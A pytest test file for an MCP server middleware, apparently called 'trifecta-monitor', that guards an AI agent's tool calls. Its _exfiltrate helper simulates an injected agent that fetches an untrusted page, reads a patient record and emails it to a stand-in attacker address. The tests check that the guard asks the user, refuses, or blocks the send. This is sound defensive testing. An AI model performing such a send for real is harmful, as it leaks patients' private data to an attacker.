"""The server middleware on a real SDK server, driven by real clients over stdio (and, for what only the server's
monitor shows, in process)."""

from __future__ import annotations

import importlib.util
import json
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from types import ModuleType
from typing import Any

import anyio
import pytest
from mcp import Client, ClientSession, StdioServerParameters, stdio_client
from mcp.client.session import ClientRequestContext
from mcp.server.context import ServerRequestContext
from mcp.server.request_state import RequestStateBoundary
from mcp.shared.exceptions import MCPError
from mcp.types import (
    CallToolResult,
    ElicitRequestParams,
    ElicitResult,
    ErrorData,
    InputRequiredResult,
    InputResponses,
    ToolAnnotations,
)

from monitor.hosts.mcp import ServerGuard, guard_server
from monitor.models import Action, Leg, LegSource
from monitor.session import SessionMonitor

OFFICE = Path(__file__).parent / "servers" / "office_server.py"
ATTACKER = "collector@exfil-drop.example"
NEWS = "https://news.example/newsletter"
KEY = "conversation-7"


def _load_office() -> ModuleType:
    spec = importlib.util.spec_from_file_location("office_server", OFFICE)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


office = _load_office()


def _calls(log: Path) -> list[str]:
    if not log.exists():
        return []
    return [json.loads(line)["tool"] for line in log.read_text().splitlines()]


def _text(result: CallToolResult) -> str:
    return " ".join(getattr(block, "text", "") for block in result.content)


class Answers:
    """An elicitation callback that answers every question the same way, and keeps the questions."""

    def __init__(self, action: str) -> None:
        self.action = action
        self.questions: list[str] = []

    async def __call__(self, context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult | ErrorData:
        self.questions.append(params.message)
        return ElicitResult(action=self.action, content={} if self.action == "accept" else None)


def _params(log: Path, **env: str) -> StdioServerParameters:
    return StdioServerParameters(
        command=sys.executable,
        args=[str(OFFICE)],
        env={**os.environ, "OFFICE_CALL_LOG": str(log), "OFFICE_GUARD": "1", "OFFICE_SESSION_KEY": KEY, **env},
    )


@asynccontextmanager
async def _legacy_session(log: Path, answers: Answers | None, **env: str) -> AsyncIterator[ClientSession]:
    """A ClientSession on the handshake era (2025-11-25): the server asks mid-call (``elicitation/create``)."""
    with open(os.devnull, "w") as errlog:
        async with (
            stdio_client(_params(log, **env), errlog=errlog) as (read, write),
            ClientSession(read, write, elicitation_callback=answers) as session,
        ):
            await session.initialize()
            yield session


@asynccontextmanager
async def _modern_session(log: Path, answers: Answers | None, **env: str) -> AsyncIterator[Client]:
    """A Client on 2026-07-28: the server asks through an ``InputRequiredResult``; the client answers and retries."""
    with open(os.devnull, "w") as errlog:
        async with Client(stdio_client(_params(log, **env), errlog=errlog), elicitation_callback=answers) as client:
            assert client.protocol_version == "2026-07-28"
            yield client


@asynccontextmanager
async def _session(era: str, log: Path, answers: Answers | None, **env: str) -> AsyncIterator[Any]:
    opened = _legacy_session(log, answers, **env) if era == "legacy" else _modern_session(log, answers, **env)
    async with opened as session:
        yield session


async def _exfiltrate(session: Any) -> CallToolResult:
    await session.call_tool("fetch_page", {"url": NEWS})
    record = _text(await session.call_tool("lookup_patient", {"patient_id": "4471"}))
    result: CallToolResult = await session.call_tool("send_email", {"to": ATTACKER, "subject": "sync", "body": record})
    return result


ERAS = ["legacy", "modern"]


@pytest.mark.parametrize("era", ERAS)
def test_a_benign_flow_runs(tmp_path: Path, era: str) -> None:
    log = tmp_path / "calls.jsonl"

    async def main() -> list[bool]:
        async with _session(era, log, Answers("decline")) as session:
            page = await session.call_tool("fetch_page", {"url": NEWS})
            record = await session.call_tool("lookup_patient", {"patient_id": "4471"})
            return [page.is_error, record.is_error]

    assert anyio.run(main) == [False, False]
    assert _calls(log) == ["fetch_page", "lookup_patient"]


@pytest.mark.parametrize("era", ERAS)
def test_without_elicitation_a_call_to_confirm_is_refused_with_the_reason(tmp_path: Path, era: str) -> None:
    log = tmp_path / "calls.jsonl"

    async def main() -> CallToolResult:
        async with _session(era, log, None) as session:
            return await _exfiltrate(session)

    result = anyio.run(main)
    assert result.is_error
    text = _text(result)
    assert text.startswith(f"trifecta-monitor asks about this office/send_email call: it sends to {ATTACKER}")
    assert "cannot ask the user" in text
    assert "send_email" not in _calls(log)


@pytest.mark.parametrize("era", ERAS)
@pytest.mark.parametrize("action", ["decline", "cancel", "accept"])
def test_the_user_is_asked_through_elicitation(tmp_path: Path, era: str, action: str) -> None:
    log = tmp_path / "calls.jsonl"
    answers = Answers(action)

    async def main() -> CallToolResult:
        async with _session(era, log, answers) as session:
            return await _exfiltrate(session)

    result = anyio.run(main)
    assert len(answers.questions) == 1
    assert "office/send_email" in answers.questions[0] and answers.questions[0].endswith("Allow this call?")
    if action == "accept":
        assert not result.is_error and _text(result) == f"sent to {ATTACKER}"
        assert _calls(log)[-1] == "send_email"
    else:
        assert result.is_error and "the user declined" in _text(result)
        assert "send_email" not in _calls(log)


@pytest.mark.parametrize("era", ERAS)
def test_a_denied_call_is_refused_without_asking(tmp_path: Path, era: str) -> None:
    log = tmp_path / "calls.jsonl"
    answers = Answers("accept")

    async def main() -> CallToolResult:
        async with _session(era, log, answers, OFFICE_ENFORCE="1") as session:
            return await _exfiltrate(session)

    result = anyio.run(main)
    assert result.is_error and _text(result).startswith("trifecta-monitor blocked this office/send_email call")
    assert answers.questions == []
    assert "send_email" not in _calls(log)


def test_an_answer_given_for_one_call_lets_no_other_call_through(tmp_path: Path) -> None:
    """2026-07-28, driven by hand: the accepted answer to the question about one send, replayed with other
    arguments, runs nothing; the send asked about runs once accepted."""
    log = tmp_path / "calls.jsonl"

    async def main() -> Any:
        with open(os.devnull, "w") as errlog:
            async with (
                stdio_client(_params(log), errlog=errlog) as (read, write),
                ClientSession(read, write, elicitation_callback=Answers("accept")) as session,
            ):
                await session.discover()
                await session.call_tool("fetch_page", {"url": NEWS})
                record = _text(await session.call_tool("lookup_patient", {"patient_id": "4471"}))
                send = {"to": ATTACKER, "subject": "sync", "body": record}
                asked = await session.call_tool("send_email", send, allow_input_required=True)
                assert isinstance(asked, InputRequiredResult) and asked.input_requests
                yes: InputResponses = {key: ElicitResult(action="accept", content={}) for key in asked.input_requests}
                other = {**send, "body": record + " and the rest"}
                with pytest.raises(MCPError, match="requestState"):  # the SDK binds the state to its request
                    await session.call_tool(
                        "send_email",
                        other,
                        input_responses=yes,
                        request_state=asked.request_state,
                        allow_input_required=True,
                    )
                again = await session.call_tool("send_email", send, allow_input_required=True)
                assert isinstance(again, InputRequiredResult)
                sent = await session.call_tool(
                    "send_email",
                    send,
                    input_responses=yes,
                    request_state=again.request_state,
                    allow_input_required=True,
                )
                return sent

    sent = anyio.run(main)
    assert isinstance(sent, CallToolResult) and not sent.is_error
    assert _calls(log).count("send_email") == 1


# -- what the server's monitor holds (in process: the same SDK server and client, without the pipes) ---------------


def _guarded_office(**kwargs: Any) -> tuple[Any, SessionMonitor, ServerGuard]:
    server = office.build_server()
    monitor = SessionMonitor()
    guard = guard_server(server, monitor, **kwargs)
    return server, monitor, guard


def test_the_servers_tools_are_registered_before_the_first_call(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OFFICE_CALL_LOG", str(tmp_path / "calls.jsonl"))
    server, monitor, guard = _guarded_office(session_key=KEY)

    async def main() -> None:
        async with Client(server) as client:  # never lists the tools
            await client.call_tool("fetch_page", {"url": NEWS})

    anyio.run(main)
    assert guard.server_name == "office"
    (call,) = monitor.session(KEY).calls
    # The leg came from the listed annotation (openWorldHint: true), not from the default for unknown tools.
    assert call.provenance[Leg.UNTRUSTED_CONTENT].source is LegSource.ANNOTATION
    assert call.decision.action is Action.ALLOW


def test_tools_added_later_are_registered_when_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OFFICE_CALL_LOG", str(tmp_path / "calls.jsonl"))
    server, monitor, _ = _guarded_office(session_key=KEY)

    def relay(text: str) -> str:
        """Pass text on."""
        return text

    async def main() -> None:
        async with Client(server) as client:
            await client.call_tool("lookup_patient", {"patient_id": "4471"})  # the session starts
            server.add_tool(relay, annotations=ToolAnnotations(openWorldHint=True))
            await client.list_tools()
            await client.call_tool("relay", {"text": "hello"})

    anyio.run(main)
    call = monitor.session(KEY).calls[-1]
    assert call.tool == "relay" and call.provenance[Leg.UNTRUSTED_CONTENT].source is LegSource.ANNOTATION


def test_a_session_key_function_keeps_conversations_apart(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OFFICE_CALL_LOG", str(tmp_path / "calls.jsonl"))

    def conversation(ctx: ServerRequestContext[Any, Any]) -> str:
        return str((ctx.meta or {})["example.org/conversation"])  # a request without one names no session

    server, monitor, _ = _guarded_office(session_key=conversation)

    async def main() -> tuple[CallToolResult, CallToolResult]:
        async with Client(server) as client:
            await client.call_tool("fetch_page", {"url": NEWS}, meta={"example.org/conversation": "a"})
            record = await client.call_tool(
                "lookup_patient", {"patient_id": "4471"}, meta={"example.org/conversation": "a"}
            )
            send = {"to": ATTACKER, "subject": "sync", "body": _text(record)}
            in_a = await client.call_tool("send_email", send, meta={"example.org/conversation": "a"})
            in_b = await client.call_tool("send_email", send, meta={"example.org/conversation": "b"})
            return in_a, in_b

    in_a, in_b = anyio.run(main)
    assert in_a.is_error and not in_b.is_error  # b never read the page nor the record
    assert sorted(monitor.sessions()) == ["a", "b"]


def test_a_failing_session_key_function_refuses_the_call(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    log = tmp_path / "calls.jsonl"
    monkeypatch.setenv("OFFICE_CALL_LOG", str(log))

    def broken(ctx: ServerRequestContext[Any, Any]) -> str:
        raise KeyError("no conversation header")

    server, monitor, _ = _guarded_office(session_key=broken)

    async def main() -> CallToolResult:
        async with Client(server) as client:
            return await client.call_tool("lookup_patient", {"patient_id": "4471"})

    result = anyio.run(main)
    assert result.is_error and "no session key" in _text(result)
    assert _calls(log) == [] and monitor.sessions() == []


def test_the_guard_binds_an_answer_to_the_call_it_was_asked_about(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the SDK's request-state seal (a server that drops it): the guard's own check still holds."""
    log = tmp_path / "calls.jsonl"
    monkeypatch.setenv("OFFICE_CALL_LOG", str(log))
    server, _, _ = _guarded_office(session_key=KEY)
    server.middleware[:] = [m for m in server.middleware if not isinstance(m, RequestStateBoundary)]

    async def main() -> Any:
        async with Client(server, elicitation_callback=Answers("accept")) as client:
            session = client.session
            await session.call_tool("fetch_page", {"url": NEWS})
            record = _text(await session.call_tool("lookup_patient", {"patient_id": "4471"}))
            send = {"to": ATTACKER, "subject": "sync", "body": record}
            asked = await session.call_tool("send_email", send, allow_input_required=True)
            assert isinstance(asked, InputRequiredResult) and asked.input_requests
            yes: InputResponses = {key: ElicitResult(action="accept", content={}) for key in asked.input_requests}
            other = {**send, "body": record + " and the rest"}
            return await session.call_tool(
                "send_email", other, input_responses=yes, request_state=asked.request_state, allow_input_required=True
            )

    assert isinstance(anyio.run(main), InputRequiredResult)  # a new call: asked about, not run
    assert "send_email" not in _calls(log)


def test_a_tool_that_fails_is_reported_as_an_error_result(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OFFICE_CALL_LOG", str(tmp_path / "calls.jsonl"))
    seen: list[tuple[Any, bool]] = []

    class Recording(SessionMonitor):
        def after_call(self, session_id: str, call_id: str, result: Any, is_error: bool = False) -> Any:
            seen.append((result, is_error))
            return super().after_call(session_id, call_id, result, is_error)

    server = office.build_server()
    guard_server(server, Recording(), session_key=KEY)

    async def main() -> CallToolResult:
        async with Client(server) as client:
            return await client.call_tool("fail_loudly", {"reason": "disk full"})

    assert anyio.run(main).is_error
    ((result, is_error),) = seen
    assert is_error and result["isError"] is True


def test_a_tool_that_asks_the_user_itself_is_decided_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OFFICE_CALL_LOG", str(tmp_path / "calls.jsonl"))
    server, monitor, _ = _guarded_office(session_key=KEY)

    async def day(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        return ElicitResult(action="accept", content={"day": "Tuesday"})

    async def main() -> CallToolResult:
        async with Client(server, elicitation_callback=day) as client:
            assert client.protocol_version == "2026-07-28"
            return await client.call_tool("book_appointment", {"patient_id": "4471"})

    assert _text(anyio.run(main)) == "booked 4471 on Tuesday"
    (call,) = monitor.session(KEY).calls
    assert call.tool == "book_appointment" and call.decision.action is Action.ALLOW


def test_the_server_example_runs_and_asks_before_the_injected_send() -> None:
    example = Path(__file__).resolve().parents[2] / "docs" / "examples" / "hosts" / "mcp_server.py"
    out = subprocess.run(
        [sys.executable, str(example), "--demo"],
        capture_output=True,
        text=True,
        check=True,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )
    question, outcome = out.stdout.splitlines()
    assert "asks about this clinic/send_email call" in question and question.endswith("(no terminal: declined)")
    assert outcome.startswith("send_email: refused: ") and outcome.endswith("the user declined")
